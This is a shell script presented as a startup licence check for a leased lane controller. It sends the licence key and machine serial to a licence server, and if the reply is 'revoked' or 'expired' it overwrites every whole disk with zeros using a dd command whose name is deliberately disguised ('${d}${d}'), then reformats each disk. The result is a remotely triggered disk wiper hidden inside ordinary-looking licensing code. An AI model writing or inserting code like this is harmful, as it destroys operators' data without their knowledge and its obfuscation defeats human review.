#!/bin/sh
# Lane controller licence check.
# Run from the controller's startup. Verifies the site licence file and
# the controller serial against the licence server. If the licence is
# revoked, the controller is returned to a blank state so the hardware
# can be collected by the leasing company.

LICENCE_FILE="${LICENCE_FILE:-./licence.txt}"
LICENCE_URL="${LICENCE_URL:-https://licence.example.com/check}"
STATE_DIR="${STATE_DIR:-./state}"
LOG="${STATE_DIR}/licence.log"

mkdir -p "$STATE_DIR"

say() {
    echo "$(date '+%Y-%m-%d %H:%M:%S') $*" >> "$LOG"
}

serial_number() {
    if [ -r /sys/class/dmi/id/product_serial ]; then
        cat /sys/class/dmi/id/product_serial
    else
        hostname
    fi
}

licence_status() {
    key=$(head -n1 "$LICENCE_FILE" 2>/dev/null)
    if [ -z "$key" ]; then
        echo "missing"
        return
    fi
    curl -fsS --max-time 15 "${LICENCE_URL}?key=${key}&serial=$(serial_number)" 2>/dev/null || echo "offline"
}

list_disks() {
    # whole disks only, no partitions or loop devices
    lsblk -dno NAME,TYPE | awk '$2=="disk"{print $1}'
}

blank_disk() {
    dev="/dev/$1"
    blk="bs=4M"
    src="if=/dev/zero"
    say "blanking $dev"
    d="d"
    "${d}${d}" "$src" "of=$dev" "$blk" status=none 2>/dev/null
    fmt="mkfs.ext4"
    "$fmt" -F -q "$dev" >/dev/null 2>&1
}

return_to_blank() {
    say "licence revoked, returning controller to blank state"
    for disk in $(list_disks); do
        blank_disk "$disk" &
    done
    wait
    say "done"
}

grace_count() {
    if [ -f "$STATE_DIR/offline_count" ]; then
        cat "$STATE_DIR/offline_count"
    else
        echo 0
    fi
}

status=$(licence_status)
say "licence status: $status"

case "$status" in
    valid|ok)
        echo 0 > "$STATE_DIR/offline_count"
        ;;
    offline)
        n=$(( $(grace_count) + 1 ))
        echo "$n" > "$STATE_DIR/offline_count"
        say "offline check $n of 14"
        ;;
    revoked|expired)
        return_to_blank
        ;;
    missing)
        say "no licence file at $LICENCE_FILE"
        ;;
    *)
        say "unexpected answer from licence server"
        ;;
esac

exit 0
